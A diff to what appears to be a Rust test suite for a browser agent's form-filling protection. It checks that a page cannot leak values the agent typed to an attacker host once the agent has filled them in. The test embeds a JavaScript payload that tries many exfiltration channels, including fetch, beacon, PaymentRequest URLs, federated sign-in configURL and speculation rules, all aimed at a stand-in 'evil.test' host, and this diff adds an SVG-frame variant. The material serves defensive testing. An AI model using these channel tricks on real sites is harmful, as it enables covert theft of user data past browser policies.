@@ -7,7 +7,7 @@ use crate::stage::{FORM, REQUEST, Stage};
 
 /// Sends what is typed to the attacker in every way that a script has, and says so when it has tried them all.
 const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe>
-  <iframe id="late"></iframe><a id="a"></a><script>
+  <iframe id="drawn" src="/drawn.svg"></iframe><iframe id="late"></iframe><a id="a"></a><script>
   const to = 'https://evil.test:PORT/';
   const ways = {
     fetch: (d) => fetch(to + 'fetch?' + d, { mode: 'no-cors' }),
@@ -26,6 +26,9 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
       el.contentWindow.fetch(to + 'blank?' + d, { mode: 'no-cors' }); },
     // What the browser fetches by itself: who pays, who signs in, what may be visited next.
     payment: (d) => new PaymentRequest([{ supportedMethods: to + 'payment/' + d }],
+      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
+    // The same for a document that is no HTML.
+    drawn: (d) => new (document.getElementById('drawn').contentWindow.PaymentRequest)([{ supportedMethods: to + 'drawn/' + d }],
       { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
     signin: (d) => navigator.credentials.get({ identity: { providers: [{ configURL: to + 'signin/' + d, clientId: 'x', nonce: 'x' }] } }),
     ahead: (d) => document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
@@ -72,6 +75,10 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
     stage.site.put("bank.test/frame", FRAME);
     stage.site.put("evil.test/slow", LATE);
+    stage.site.put(
+        "shop.test/drawn.svg",
+        "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>",
+    );
     stage.site.put("bank.test/", "<!doctype html><img src='https://evil.test:PORT/logo'>");
     let redirect = stage.site.url("evil.test/redirected");
     stage.site.redirect("shop.test/redirect", &redirect);
@@ -83,28 +90,15 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     // Without a value in it the page sends what it likes: so the attacker does listen.
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    let listens = |stage: &Stage, ways: &[&str]| {
-        let began = Instant::now();
-        while let Some(way) =
-            ways.iter().find(|way| !stage.site.sent_to("evil.test").contains(&format!("evil.test /{way}")))
-        {
-            assert!(
-                began.elapsed() < Duration::from_secs(10),
-                "{way} is no way: {}",
-                stage.site.sent_to("evil.test")
-            );
-            thread::sleep(Duration::from_millis(100));
-        }
-    };
-    listens(&stage, &WAYS);
+    arrive(&stage, "evil.test", &WAYS);
     stage.browser().evaluate(TAKES);
-    listens(&stage, &["taken"]);
-    thread::sleep(Duration::from_millis(700));
+    arrive(&stage, "evil.test", &["taken"]);
+    stage.browser().arrive("evil.test");
     // From here on the attacker's own document is on its way while the form is filled.
     stage.site.hold("evil.test/slow");
     stage.browser().open(&url);
-    thread::sleep(Duration::from_millis(500));
-    let before = stage.site.sent_to("evil.test");
+    let before = quiet(&stage);
+    assert!(before.matches("evil.test /slow").count() > 1, "{before}");
     stage.task();
     stage.agent_until(None, "Deliver to");
     let reply = stage.agent(Some(REQUEST));
@@ -114,11 +108,10 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     assert_eq!(stage.site.sent_to("evil.test"), before, "after the fill nothing goes there");
 
     stage.site.let_go("evil.test/slow");
-    thread::sleep(Duration::from_millis(300));
+    thread::sleep(Duration::from_secs(1));
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    thread::sleep(Duration::from_millis(500));
-    assert_eq!(stage.site.sent_to("evil.test"), before, "a document that came later sends nothing");
+    assert_eq!(quiet(&stage), before, "a document that came later sends nothing");
 
     // Nor by taking the whole tab there, nor from another tab of the same site, a worker stopped meanwhile or not.
     stage.browser().stop_worker();
@@ -130,35 +123,33 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     thread::sleep(Duration::from_millis(700));
     stage.browser().tab(&url);
     // What is told by its tab alone, or by the policy of the page, is known a moment after the page is there.
-    thread::sleep(Duration::from_millis(800));
+    narrow_now(&mut stage);
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
     stage.browser().evaluate(TAKES);
-    thread::sleep(Duration::from_millis(700));
-    assert_eq!(stage.site.sent_to("evil.test"), before, "nor by leaving, nor from another tab");
+    assert_eq!(quiet(&stage), before, "nor by leaving, nor from another tab");
 
     // Another site in another tab is left alone, and the shop is narrow when the person comes back.
     let bank = stage.site.url("bank.test/");
     stage.browser().tab(&bank);
-    thread::sleep(Duration::from_millis(300));
-    assert!(stage.site.sent_to("evil.test").contains("/logo"), "another site's page is not ours to narrow");
-    let before = stage.site.sent_to("evil.test");
+    // Another site's page is not ours to narrow.
+    arrive(&stage, "evil.test", &["logo"]);
+    let before = quiet(&stage);
     stage.browser().open(&url);
-    thread::sleep(Duration::from_millis(800));
+    narrow_now(&mut stage);
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    assert_eq!(stage.site.sent_to("evil.test"), before, "the shop's page of later");
+    assert_eq!(quiet(&stage), before, "the shop's page of later");
     stage.no_value_got_out();
 
     // The shop itself gets what is sent to it.
     stage.browser().evaluate("fetch('/mine?' + 42)");
-    thread::sleep(Duration::from_millis(300));
-    assert!(stage.site.sent_to("shop.test").contains("/mine?42"));
+    arrive(&stage, "shop.test", &["mine?42"]);
 
     stage.end_task();
     let began = Instant::now();
     while stage.site.sent_to("evil.test") == before {
-        assert!(began.elapsed() < Duration::from_secs(20), "the task is over, and the way still narrow");
+        assert!(began.elapsed() < PATIENCE, "the task is over, and the way still narrow");
         // The policy that a document was given goes with it.
         stage.browser().open(&url);
         stage.browser().evaluate("void ways.fetch('after').catch(() => {})");
@@ -166,7 +157,7 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     }
 }
 
-const WAYS: [&str; 28] = [
+const WAYS: [&str; 29] = [
     "fetch",
     "beacon",
     "image",
@@ -180,6 +171,7 @@ const WAYS: [&str; 28] = [
     "sandbox",
     "blank",
     "payment",
+    "drawn",
     "signin",
     "ahead",
     "ping",
@@ -197,10 +189,53 @@ const WAYS: [&str; 28] = [
     "form",
 ];
 
+/// How long a slow machine may take for what it should do.
+const PATIENCE: Duration = Duration::from_secs(40);
+
 fn wait_for(stage: &mut Stage, condition: &str) {
     let began = Instant::now();
     while stage.browser().evaluate(condition) != true {
-        assert!(began.elapsed() < Duration::from_secs(10), "{condition}");
+        assert!(began.elapsed() < PATIENCE, "{condition}");
         thread::sleep(Duration::from_millis(100));
     }
+}
+
+/// Waits until a host was asked for what begins so.
+fn arrive(stage: &Stage, host: &str, all: &[&str]) {
+    let began = Instant::now();
+    while let Some(missing) =
+        all.iter().find(|one| !stage.site.sent_to(host).contains(&format!("{host} /{one}")))
+    {
+        assert!(began.elapsed() < PATIENCE, "{missing} never came: {}", stage.site.sent_to(host));
+        thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// What the attacker was sent, once nothing more has come for a while.
+fn quiet(stage: &Stage) -> String {
+    let mut sent = stage.site.sent_to("evil.test");
+    loop {
+        thread::sleep(Duration::from_secs(2));
+        let now = stage.site.sent_to("evil.test");
+        if now == sent {
+            return sent;
+        }
+        sent = now;
+    }
+}
+
+/// Waits until the page in front has its policy; the rule about its tab is set right after it.
+fn narrow_now(stage: &mut Stage) {
+    wait_for(
+        stage,
+        "(() => {
+            if (!window.kept) {
+                window.kept = [];
+                addEventListener('securitypolicyviolation', () => window.kept.push(1));
+            }
+            fetch(`https://nowhere.test:${location.port}/`).catch(() => 0);
+            return window.kept.length > 0;
+        })()",
+    );
+    thread::sleep(Duration::from_secs(1));
 }
